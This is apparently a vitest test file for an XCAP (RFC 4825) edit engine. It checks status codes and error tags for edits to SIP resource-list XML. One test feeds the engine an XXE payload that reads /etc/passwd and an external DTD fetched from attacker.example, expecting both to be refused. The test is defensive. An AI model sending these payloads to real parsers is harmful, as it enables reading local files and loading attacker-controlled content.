/** Each RFC 4825 §8/§11 condition the edit engine answers, with status, error tag and unchanged document. */
import { describe, expect, it } from 'vitest';
import { run } from './test-support';

const RL = 'resource-lists';
const friends = `<?xml version="1.0" encoding="UTF-8"?>
<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists">
  <list name="friends">
    <entry uri="sip:bob@example.com">
      <display-name>Bob</display-name>
    </entry>
    <entry uri="sip:carol@example.com"/>
  </list>
  <list name="family"/>
</resource-lists>
`;

function expectConflict(result: ReturnType<typeof run>, tag: string) {
  expect({ status: result.status, xcapError: result.xcapError, contentType: result.contentType }).toEqual({ status: 409, xcapError: tag, contentType: 'application/xcap-error+xml' });
  expect(result.body).toContain(`<${tag}`);
  expect(result.body).toContain('xmlns="urn:ietf:params:xml:ns:xcap-error"');
  expect(result.documentChanged).toBe(false);
}

describe('GET', () => {
  it('answers an element with application/xcap-el+xml and its exact bytes', () => {
    const result = run(friends, 'GET', RL, 'resource-lists/list[@name="friends"]/entry[1]');
    expect([result.status, result.contentType]).toEqual([200, 'application/xcap-el+xml']);
    expect(result.body).toBe('<entry uri="sip:bob@example.com">\n      <display-name>Bob</display-name>\n    </entry>');
  });
  it('answers an attribute with application/xcap-att+xml', () => {
    const result = run(friends, 'GET', RL, 'resource-lists/list[2]/@name');
    expect([result.status, result.contentType, result.body]).toEqual([200, 'application/xcap-att+xml', 'family']);
  });
  it('answers namespace bindings with application/xcap-ns+xml', () => {
    const result = run(friends, 'GET', RL, 'resource-lists/list[1]/namespace::*');
    expect([result.status, result.contentType, result.body]).toEqual([200, 'application/xcap-ns+xml', '<list xmlns="urn:ietf:params:xml:ns:resource-lists"/>']);
  });
  it('is 404 when the selector selects several elements, not the first of them', () => {
    expect(run(friends, 'GET', RL, 'resource-lists/list/entry').status).toBe(404);
    expect(run(friends, 'GET', RL, 'resource-lists/list').status).toBe(404);
  });
  it('is 404 when nothing is selected, and when the document does not exist', () => {
    expect(run(friends, 'GET', RL, 'resource-lists/list[@name="nope"]').status).toBe(404);
    expect(run(null, 'GET', RL, null).status).toBe(404);
  });
  it('is 400 for a selector that does not parse or uses an unbound prefix', () => {
    expect(run(friends, 'GET', RL, 'resource-lists/list[@name="x"').status).toBe(400);
    expect(run(friends, 'GET', RL, 'p:resource-lists').status).toBe(400);
  });
});

describe('PUT element', () => {
  it('replaces with 200 and keeps every other byte', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:carol@example.com"]', { body: '<entry uri="sip:carol@example.com"><display-name>Carol</display-name></entry>' });
    expect(result.status).toBe(200);
    expect(result.document).toBe(friends.replace('<entry uri="sip:carol@example.com"/>', '<entry uri="sip:carol@example.com"><display-name>Carol</display-name></entry>'));
  });
  it('inserts by position before the existing n-th sibling', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[1][@uri="sip:al@example.com"]', { body: '<entry uri="sip:al@example.com"/>' });
    expect(result.status).toBe(201);
    expect(result.document).toContain('<list name="friends">\n    <entry uri="sip:al@example.com"/>\n    <entry uri="sip:bob@example.com">');
  });
  it('inserts into a self-closing parent, opening it with matching indentation', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="family"]/entry[@uri="sip:mum@example.com"]', { body: '<entry uri="sip:mum@example.com"/>' });
    expect(result.status).toBe(201);
    expect(result.document).toContain('<list name="family">\n    <entry uri="sip:mum@example.com"/>\n  </list>');
  });
  it('no-parent names the closest existing ancestor as an absolute URI', () => {
    const documentUri = 'http://xcap.example.com/resource-lists/users/sip:joe@example.com/index';
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/list[@name="work"]/entry', { body: '<entry uri="sip:x@example.com"/>', documentUri });
    expectConflict(result, 'no-parent');
    expect(result.error?.ancestor).toBe(`${documentUri}/~~/resource-lists/list%5B@name=%22friends%22%5D`);
    expect(result.body).toContain('<ancestor>');
  });
  it('cannot-insert when the body would not be selected by the URI', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:x@example.com"]', { body: '<entry uri="sip:y@example.com"/>' }), 'cannot-insert');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[5]', { body: '<entry uri="sip:y@example.com"/>' }), 'cannot-insert');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/external', { body: '<entry uri="sip:y@example.com"/>' }), 'cannot-insert');
  });
  it('not-xml-frag for a body that is not one well-formed element', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="x"]', { body: '<list name="x">' }), 'not-xml-frag');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="x"]', { body: '<list name="x"/><list name="y"/>' }), 'not-xml-frag');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="x"]', { body: 'text<list name="x"/>' }), 'not-xml-frag');
  });
  it('not-xml-frag for malformed bodies whose element structure looks whole (the whole-document parse finds them)', () => {
    const selector = 'resource-lists/list[@name="friends"]/entry[@uri="sip:z@example.com"]';
    const bodies = [
      '<entry uri="sip:z@example.com"><display-name>Z</entry></display-name>',
      '<entry uri="sip:z@example.com" uri="sip:z@example.com"/>',
      '<entry uri="sip:z@example.com"><display-name>a & b</display-name></entry>',
      '<entry uri="sip:z@example.com"><display-name>&nbsp;</display-name></entry>',
      '<entry uri="sip:z@example.com"><display-name>]]></display-name></entry>',
    ];
    for (const body of bodies) {
      const result = run(friends, 'PUT', RL, selector, { body });
      expectConflict(result, 'not-xml-frag');
      expect(result.error?.phrase, body).toMatch(/^the body is not a well-formed XML element: line 1, column \d+/);
    }
    // With validation off the body's own parse finds them the same way.
    expectConflict(run(friends, 'PUT', RL, selector, { body: bodies[0], validateSchema: false }), 'not-xml-frag');
  });
  it('schema-validation-error (not an exception) for a duplicate xml:id, which only the whole document shows', () => {
    const withId = friends.replace('<entry uri="sip:carol@example.com"/>', '<entry uri="sip:carol@example.com" xml:id="c1"/>');
    const element = run(withId, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:z@example.com"]', { body: '<entry uri="sip:z@example.com" xml:id="c1"/>' });
    expectConflict(element, 'schema-validation-error');
    expect(element.error?.phrase).toMatch(/ID c1 already defined/);
    const attribute = run(withId, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[1]/@xml:id', { body: 'c1', contentType: 'application/xcap-att+xml' });
    expectConflict(attribute, 'schema-validation-error');
  });
  it('not-xml-frag before any other problem of a malformed body', () => {
    // The name would not be selected (cannot-insert), the uri is a duplicate (uniqueness-failure):
    // the malformed body is what is reported.
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:z@example.com"]', { body: '<entri uri="sip:z@example.com">&bad;</entri>' }), 'not-xml-frag');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:bob@example.com"]', { body: '<entry uri="sip:bob@example.com"><display-name>&bad;</display-name></entry>' }), 'not-xml-frag');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:z@example.com"]', { body: '<entry uri="sip:z@example.com"><bogus>&bad;</bogus></entry>' }), 'not-xml-frag');
  });
  it('not-utf-8 for a body that is not UTF-8', () => {
    const latin1 = new Uint8Array([...new TextEncoder().encode('<list name="'), 0xe9, ...new TextEncoder().encode('"/>')]);
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[3]', { body: latin1 }), 'not-utf-8');
  });
  it('schema-validation-error for an element the schema does not allow there', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[@uri="sip:z@example.com"]', { body: '<entry uri="sip:z@example.com"><bogus/></entry>' });
    expectConflict(result, 'schema-validation-error');
    expect(result.error?.phrase).toMatch(/line \d+, column \d+/);
  });
  it('uniqueness-failure with alt-value suggestions for a duplicate list name', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[3]', { body: '<list name="friends"/>' });
    expectConflict(result, 'uniqueness-failure');
    expect(result.error?.conflicts?.[0]).toEqual({ field: 'resource-lists/list/@name', value: 'friends', altValues: ['friends-2', 'friends-3', 'friends-4'] });
    expect(result.body).toContain('<exists field="resource-lists/list/@name"><alt-value>friends-2</alt-value>');
  });
  it('uniqueness-failure without suggestions for a duplicate entry URI', () => {
    const result = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[3]', { body: '<entry uri="sip:bob@example.com"/>' });
    expectConflict(result, 'uniqueness-failure');
    expect(result.error?.conflicts?.[0]?.altValues).toEqual([]);
  });
  it('constraint-failure for an external anchor that is not an HTTP URI', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="family"]/external', { body: '<external anchor="sip:no@example.com"/>' }), 'constraint-failure');
  });
  it('415 when the Content-Type names another kind of resource', () => {
    expect(run(friends, 'PUT', RL, 'resource-lists/list[3]', { body: '<list name="x"/>', contentType: 'application/xml-fragment-body' }).status).toBe(415);
  });
  it('413 for a body over the size limit', () => {
    expect(run(friends, 'PUT', RL, 'resource-lists/list[3]', { body: `<list name="${'x'.repeat(2000)}"/>`, limits: { maxBytes: 1000 } }).status).toBe(413);
  });
});

describe('PUT attribute', () => {
  it('creates with 201 and replaces with 200', () => {
    const created = run(friends, 'PUT', RL, 'resource-lists/list[@name="friends"]/entry[2]/@anchor', { body: 'x' });
    expect(created.status).toBe(409); // entry has no anchor attribute in the schema
    expect(created.xcapError).toBe('schema-validation-error');
    const replaced = run(friends, 'PUT', RL, 'resource-lists/list[2]/@name', { body: 'relatives' });
    expect(replaced.status).toBe(200);
    expect(replaced.document).toContain('<list name="relatives"/>');
  });
  it('not-xml-att-value for a value with "<" or a bare "&"', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[2]/@name', { body: 'a<b' }), 'not-xml-att-value');
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[2]/@name', { body: 'a & b' }), 'not-xml-att-value');
  });
  it('cannot-insert when the new value would make the step stop selecting the element', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[@name="family"]/@name', { body: 'relatives' }), 'cannot-insert');
  });
  it('uniqueness-failure when the new value collides with a sibling', () => {
    expectConflict(run(friends, 'PUT', RL, 'resource-lists/list[2]/@name', { body: 'friends' }), 'uniqueness-failure');
  });
});

describe('DELETE', () => {
  it('removes an attribute with 200', () => {
    const result = run(friends, 'DELETE', RL, 'resource-lists/list[@name="friends"]/entry[1]/display-name');
    expect(result.status).toBe(200);
    expect(result.document).toContain('<entry uri="sip:bob@example.com">\n    </entry>');
  });
  it('cannot-delete when a positional selector would then select the next sibling', () => {
    expectConflict(run(friends, 'DELETE', RL, 'resource-lists/list[@name="friends"]/entry[1]'), 'cannot-delete');
    expect(run(friends, 'DELETE', RL, 'resource-lists/list[@name="friends"]/entry[2]').status).toBe(200);
  });
  it('a PUT of the root element: its body has only its own namespace declarations in scope', () => {
    const prefixed = '<?xml version="1.0"?>\n<rl:resource-lists xmlns:rl="urn:ietf:params:xml:ns:resource-lists"><rl:list name="a"/></rl:resource-lists>\n';
    const namespaces = { rl: 'urn:ietf:params:xml:ns:resource-lists' };
    // rl is bound on the old root only, which the body replaces: the new root would have it unbound.
    const unbound = run(prefixed, 'PUT', RL, 'rl:resource-lists', { body: '<rl:resource-lists><rl:list name="b"/></rl:resource-lists>', namespaces });
    expectConflict(unbound, 'not-xml-frag');
    expect(unbound.error?.phrase).toMatch(/Namespace prefix rl/);
    const declared = run(prefixed, 'PUT', RL, 'rl:resource-lists', { body: '<rl:resource-lists xmlns:rl="urn:ietf:params:xml:ns:resource-lists"><rl:list name="b"/></rl:resource-lists>', namespaces });
    expect([declared.status, declared.document]).toEqual([200, '<?xml version="1.0"?>\n<rl:resource-lists xmlns:rl="urn:ietf:params:xml:ns:resource-lists"><rl:list name="b"/></rl:resource-lists>\n']);
    // Without xmlns the body's root is in no namespace, so the selector would not select it.
    expectConflict(run(friends, 'PUT', RL, 'resource-lists', { body: '<resource-lists><list name="b"/></resource-lists>' }), 'cannot-insert');
  });
  it('cannot-delete for the root element', () => {
    expectConflict(run(friends, 'DELETE', RL, 'resource-lists'), 'cannot-delete');
  });
  it('schema-validation-error when the deletion leaves an invalid document', () => {
    expectConflict(run(friends, 'DELETE', RL, 'resource-lists/list[@name="friends"]/entry[2]/@uri'), 'schema-validation-error');
  });
  it('405 with Allow: GET for namespace bindings and server-generated documents', () => {
    const ns = run(friends, 'DELETE', RL, 'resource-lists/list[1]/namespace::*');
    expect([ns.status, ns.headers.Allow]).toEqual([405, 'GET']);
    const caps = run(null, 'PUT', 'xcap-caps', null, { body: '<x/>' });
    expect([caps.status, caps.headers.Allow]).toEqual([405, 'GET']);
  });
});

describe('PUT document', () => {
  it('201 when created, 200 when replaced', () => {
    expect(run(null, 'PUT', RL, null, { body: friends }).status).toBe(201);
    expect(run(friends, 'PUT', RL, null, { body: friends }).status).toBe(200);
  });
  it('not-well-formed with the line and column', () => {
    const result = run(friends, 'PUT', RL, null, { body: '<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists">\n<list></resource-lists>' });
    expectConflict(result, 'not-well-formed');
    expect(result.error?.line).toBe(2);
    expect(result.document).toBe(friends);
  });
  it('refuses hostile XML before parsing: external entities and entity expansion', () => {
    const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists">&x;</resource-lists>';
    expect(run(null, 'PUT', RL, null, { body: xxe }).error?.phrase).toMatch(/entit/);
    const external = '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>';
    expect(run(null, 'PUT', RL, null, { body: external }).error?.phrase).toMatch(/external DTD/);
  });
  it('not-utf-8 for a declared non-UTF-8 encoding', () => {
    expectConflict(run(null, 'PUT', RL, null, { body: '<?xml version="1.0" encoding="ISO-8859-1"?><resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>' }), 'not-utf-8');
  });
  it('schema-validation-error for a document of another usage', () => {
    expectConflict(run(null, 'PUT', RL, null, { body: '<rls-services xmlns="urn:ietf:params:xml:ns:rls-services"/>' }), 'schema-validation-error');
  });
  it('uniqueness-failure for duplicate list names inside the document', () => {
    expectConflict(run(null, 'PUT', RL, null, { body: '<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"><list name="a"/><list name="a"/></resource-lists>' }), 'uniqueness-failure');
  });
  it('DELETE answers 200 and the document is gone', () => {
    const result = run(friends, 'DELETE', RL, null);
    expect([result.status, result.document]).toEqual([200, null]);
  });
});
